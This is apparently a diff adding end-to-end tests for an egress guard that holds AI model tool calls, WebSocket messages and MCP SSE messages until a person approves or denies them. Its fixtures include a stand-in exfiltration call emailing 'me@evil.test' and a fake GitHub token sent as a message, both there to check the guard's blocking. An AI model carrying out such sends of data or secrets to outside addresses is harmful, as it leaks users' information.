@@ -1,0 +1,393 @@
+"""What is held open besides requests: calls in models' answers, messages of WebSockets, HTTP+SSE.
+
+Real clients (OpenAI, Anthropic, Google, websockets, the MCP SDK) behind both enforcement points.
+"""
+
+from __future__ import annotations
+
+import asyncio
+from contextlib import asynccontextmanager
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any
+
+import httpx
+import pytest
+from mcp import ClientSession
+from mcp.client.sse import sse_client
+from websockets.asyncio.client import connect
+from websockets.asyncio.server import serve
+from websockets.exceptions import ConnectionClosed
+
+from guard.adapters.credentials.label_key import load_label_key
+from guard.adapters.loopback import Rig
+from guard.adapters.redis.embedded import EmbeddedRedis
+from guard.adapters.redis.operators import LabelOperator
+from guard.adapters.redis.store import RedisSessionStore
+from guard.core.policy import StateLimits
+from guard.provenance.seal import Seal
+from tests.e2e.running_guard import ROOT, Upstream, start_guard, wait_until
+from tests.e2e.test_model_sdks import answer as model_answer
+from tests.e2e.test_model_sdks import (
+    ask_anthropic,
+    ask_gemini,
+    ask_openai_chat,
+    ask_openai_responses,
+)
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator, Iterator
+    from pathlib import Path
+
+    from websockets.asyncio.server import ServerConnection
+
+    from tests.e2e.running_guard import RunningGuard
+
+pytestmark = pytest.mark.e2e
+
+SECONDS = 60.0
+THEFT = ("email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
+HOLD = "version: 1\nname: hold\nask: {hold: 5m, quiet: 60s}\n"
+SOCKETS = """
+version: 1
+name: sockets
+mode: enforce
+ask: {hold: 5m}
+tools:
+  - match: [http.request]
+    role: send
+    destinations: ["$.url"]
+    ignore: ["$.method", "$.host", "$.content_type", "$.headers"]
+  - match: [websocket.message]
+    role: other
+rules:
+  - {id: secrets, type: content, finds: [secret_found, injection_text], effect: ask}
+  - {id: allow, type: tool, effect: allow}
+"""
+ECHO = """
+version: 1
+name: echo
+mode: enforce
+ask: {hold: 5m}
+tools:
+  - {match: [echo], role: other}
+rules:
+  - {id: echo, type: tool, roles: [other], effect: ask}
+  - {id: allow, type: tool, effect: allow}
+"""
+TOKEN = "ghp_" + "0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"
+
+
+@pytest.fixture(scope="module", params=["lean", "mitmproxy"])
+def pep(request: pytest.FixtureRequest) -> str:
+    """Return the enforcement point."""
+    return str(request.param)
+
+
+@asynccontextmanager
+async def desk(redis: str, directory: Path) -> AsyncIterator[LabelOperator]:
+    """Yield what answers requests for approval."""
+    store = RedisSessionStore.at(redis, timeout=SECONDS)
+    seal = Seal(load_label_key(directory / "label.key"))
+    try:
+        yield LabelOperator(store, seal, StateLimits())
+    finally:
+        await store.aclose()
+
+
+async def answered(people: LabelOperator, *, granted: bool, count: int = 1) -> str:
+    """Answer what waits, once so many requests do; return the id of one."""
+    async with asyncio.timeout(SECONDS):
+        while len(found := await people.waiting()) < count:  # noqa: ASYNC110  (Redis tells nobody)
+            await asyncio.sleep(0.02)
+    for one in found:
+        if granted:
+            await people.approve(one.decision, one.at)
+        else:
+            await people.deny(one.decision)
+    return found[0].decision
+
+
+# --- models' answers -----------------------------------------------------------------------------
+
+
+@dataclass
+class Model:
+    """A guard in front of a model server."""
+
+    guard: RunningGuard
+    redis: str
+    directory: Path
+
+    @property
+    def url(self) -> str:
+        """Where its clients connect."""
+        return f"http://127.0.0.1:{self.guard.port}"
+
+    def desk(self) -> Any:
+        """Return what answers requests for approval."""
+        return desk(self.redis, self.directory)
+
+
+@pytest.fixture(scope="module")
+def model(tmp_path_factory: pytest.TempPathFactory, pep: str) -> Iterator[Model]:
+    """Return one."""
+    directory = tmp_path_factory.mktemp("model")
+    (directory / "hold.yaml").write_text(HOLD, encoding="utf-8")
+    server = Upstream()
+    server.answer = model_answer
+    with EmbeddedRedis() as redis:
+        policies = ("--policy", str(directory / "hold.yaml"), "--redis", redis.url)
+        options = ("--model-api", f"127.0.0.1:{server.port}", "--pep", pep, *policies)
+        default = ROOT / "policies" / "default.yaml"
+        guard = start_guard(directory / "guard", server, policy=default, options=options)
+        yield Model(guard, redis.url, directory)
+        guard.stop()
+    server.close()
+
+
+CLIENTS = pytest.mark.parametrize(
+    "ask", [ask_openai_chat, ask_openai_responses, ask_anthropic, ask_gemini]
+)
+
+
+class Raw:
+    """A streamed answer as it comes."""
+
+    def __init__(self, url: str) -> None:
+        self.text = ""
+        self._client = httpx.AsyncClient(trust_env=False, timeout=SECONDS)
+        self._url = f"{url}/v1/chat/completions"
+        self.task = asyncio.get_running_loop().create_task(self._run())
+
+    async def _run(self) -> None:
+        message = {"role": "user", "content": "please theft"}
+        asked = {"model": "m", "stream": True, "messages": [message]}
+        async with self._client, self._client.stream("POST", self._url, json=asked) as answer:
+            async for piece in answer.aiter_text():
+                self.text += piece
+
+    async def reads(self, text: str) -> None:
+        """Wait until something stands in what has come so far."""
+        async with asyncio.timeout(SECONDS):
+            while text not in self.text:
+                assert not self.task.done() or text in self.text, self.text
+                await asyncio.sleep(0.02)
+
+    async def leave(self) -> None:
+        """Hang up."""
+        self.task.cancel()
+        await asyncio.gather(self.task, return_exceptions=True)
+
+
+async def asking(model: Model, ask: Any, *, streamed: bool) -> tuple[str, list[Any]]:
+    """Return the text and the calls of an answer."""
+    return (await asyncio.to_thread(ask, model.url, "please theft", streamed=streamed))[:2]
+
+
+async def waits(people: LabelOperator) -> None:
+    """Wait until something is asked."""
+    async with asyncio.timeout(SECONDS):
+        while not await people.waiting():  # noqa: ASYNC110  (Redis tells nobody)
+            await asyncio.sleep(0.02)
+
+
+@CLIENTS
+async def test_a_call_in_a_streamed_answer_waits_and_arrives_as_it_was(
+    model: Model, ask: Any
+) -> None:
+    """Every client waits through what it is told meanwhile, and then reads the very call."""
+    async with model.desk() as people:
+        waiting = asyncio.ensure_future(asking(model, ask, streamed=True))
+        # It was asked before this one, so it has been told as well that it waits.
+        await waits(people)
+        other = Raw(model.url)
+        await other.reads(": the egress guard waits")
+        begun = other.text
+        await answered(people, granted=True, count=2)
+        text, calls = await waiting
+        await other.task
+
+    assert calls == [THEFT]
+    assert text == "Let me see."
+    assert "Let me" in begun.replace('"}', "")
+    assert "email_send_email" not in begun
+    assert "email_send_email" in other.text
+
+
+@CLIENTS
+async def test_a_call_in_a_whole_answer_waits_as_long_as_the_policy_says(
+    model: Model, ask: Any
+) -> None:
+    """One yes releases one, and a no reads as words."""
+    async with model.desk() as people:
+        waiting = asyncio.ensure_future(asking(model, ask, streamed=False))
+        await answered(people, granted=True)
+        released = await waiting
+        waiting = asyncio.ensure_future(asking(model, ask, streamed=False))
+        await answered(people, granted=False)
+        text, calls = await waiting
+
+    assert released[1] == [THEFT]
+    assert calls == []
+    assert "by the egress guard and did not reach the tool" in text
+
+
+async def test_a_denied_call_in_a_stream_is_words(model: Model) -> None:
+    """The answer goes on, and ends as if the model had asked for nothing."""
+    async with model.desk() as people:
+        waiting = asyncio.ensure_future(asking(model, ask_anthropic, streamed=True))
+        await answered(people, granted=False)
+        text, calls = await waiting
+
+    assert calls == []
+    assert "approval_denied" in text
+
+
+async def test_who_hangs_up_gives_the_call_up(model: Model) -> None:
+    """A yes after that releases nothing: it waits for the model to ask again."""
+    async with model.desk() as people:
+        raw = Raw(model.url)
+        await raw.reads(": the egress guard waits")
+        await raw.leave()
+
+        def left() -> bool:
+            lines = [one for one in model.guard.audit() if one["event"] == "guard.held"]
+            return bool(lines) and lines[-1]["outcome"] == "left"
+
+        await asyncio.to_thread(wait_until, left, "the end of the wait")
+        decision = await answered(people, granted=True)
+        held = [one for one in model.guard.audit() if one["event"] == "guard.held"]
+
+    assert held[-1]["decision_id"] == decision
+    assert "email_send_email" not in raw.text
+
+
+# --- WebSockets ----------------------------------------------------------------------------------
+
+
+class Socket:
+    """A server that keeps what it is told, and says something when it is asked to."""
+
+    def __init__(self) -> None:
+        self.heard: list[str] = []
+        self.connection: ServerConnection | None = None
+
+    async def serve(self, connection: ServerConnection) -> None:
+        """Serve one client."""
+        self.connection = connection
+        async for message in connection:
+            self.heard.append(str(message))
+
+
+@asynccontextmanager
+async def socket_place(directory: Path, pep: str) -> AsyncIterator[tuple[int, Socket, str]]:
+    """Yield the port of a guard, the server behind it, and the Redis that people answer in."""
+    (directory / "policy.yaml").write_text(SOCKETS, encoding="utf-8")
+    server = Socket()
+    async with serve(server.serve, "127.0.0.1", 0) as listening:
+        upstream: Any = Upstream.__new__(Upstream)
+        upstream.port = next(iter(listening.sockets)).getsockname()[1]
+        with EmbeddedRedis() as redis:
+            options = ("--redis", redis.url, "--pep", pep)
+            policy = directory / "policy.yaml"
+            guard = await asyncio.to_thread(
+                start_guard, directory / "guard", upstream, policy=policy, options=options
+            )
+            yield guard.port, server, redis.url
+            await asyncio.to_thread(guard.stop)
+
+
+async def test_a_message_of_a_websocket_waits_and_the_rest_of_it_lives(
+    tmp_path: Path, pep: str
+) -> None:
+    """Pings are answered and the server is heard; what the client sends next keeps its place."""
+    async with (
+        socket_place(tmp_path, pep) as (port, server, redis),
+        desk(redis, tmp_path) as people,
+    ):
+        url = f"ws://127.0.0.1:{port}/chat"
+        async with connect(url, proxy=None, compression=None, ping_interval=None) as client:
+            await client.send("hello")
+            await client.send(f"the key is {TOKEN}")
+            await waits(people)
+            async with asyncio.timeout(SECONDS):
+                for number in range(3):
+                    await client.send(f"after {number}")
+                    await (await client.ping())
+                assert server.connection is not None
+                await server.connection.send("are you there?")
+                heard = await client.recv()
+                before = list(server.heard)
+                # Joined with the first one, each of the others has the key in it as well.
+                for number in range(4):
+                    await answered(people, granted=True)
+                    while len(server.heard) < 2 + number:  # noqa: ASYNC110  (nobody is told)
+                        await asyncio.sleep(0.02)
+                await client.send(f"another key is {TOKEN}")
+                await answered(people, granted=False)
+                with pytest.raises(ConnectionClosed) as closed:
+                    await client.recv()
+
+    assert heard == "are you there?"
+    assert before == ["hello"]
+    assert server.heard == ["hello", f"the key is {TOKEN}", "after 0", "after 1", "after 2"]
+    assert closed.value.rcvd is not None
+    assert closed.value.rcvd.code == 1008
+
+
+async def test_a_client_that_closes_gives_its_message_up(tmp_path: Path, pep: str) -> None:
+    """Nothing of it is sent any more, whatever is answered then."""
+    async with (
+        socket_place(tmp_path, pep) as (port, server, redis),
+        desk(redis, tmp_path) as people,
+    ):
+        url = f"ws://127.0.0.1:{port}/chat"
+        async with connect(url, proxy=None, compression=None, ping_interval=None) as client:
+            await client.send(f"the key is {TOKEN}")
+            await waits(people)
+        audit = tmp_path / "guard" / "audit.jsonl"
+
+        def left() -> bool:
+            return '"outcome":"left"' in audit.read_text("utf-8").replace(" ", "")
+
+        await asyncio.to_thread(wait_until, left, "the end of the wait")
+        await answered(people, granted=True)
+
+    assert server.heard == []
+
+
+# --- HTTP+SSE (2024-11-05) -----------------------------------------------------------------------
+
+
+async def test_a_message_of_http_sse_waits_while_its_post_is_answered(
+    tmp_path: Path, pep: str
+) -> None:
+    """The MCP SDK's older client: the result comes in its stream, once a person has said yes."""
+    (tmp_path / "policy.yaml").write_text(ECHO, encoding="utf-8")
+    with EmbeddedRedis() as redis, Rig() as rig:
+        upstream = rig.server("guard.lab.fixture_server", "sse")
+        fake: Any = Upstream.__new__(Upstream)
+        fake.port = int(str(upstream).rpartition(":")[2])
+        options = ("--redis", redis.url, "--pep", pep)
+        policy = tmp_path / "policy.yaml"
+        guard = start_guard(tmp_path / "guard", fake, policy=policy, options=options)
+        async with (
+            desk(redis.url, tmp_path) as people,
+            sse_client(f"http://127.0.0.1:{guard.port}/sse") as (read, write),
+            ClientSession(read, write) as session,
+        ):
+            await session.initialize()
+            calling = asyncio.ensure_future(session.call_tool("echo", {"text": "hello"}))
+            await answered(people, granted=True)
+            async with asyncio.timeout(SECONDS):
+                released = await calling
+            calling = asyncio.ensure_future(session.call_tool("echo", {"text": "again"}))
+            await answered(people, granted=False)
+            async with asyncio.timeout(SECONDS):
+                denied = await calling
+        outcomes = [one["outcome"] for one in guard.audit() if one["event"] == "guard.held"]
+        guard.stop()
+
+    assert released.content[0].text == "hello"
+    assert "denied" in denied.content[0].text
+    assert outcomes == ["released", "denied"]
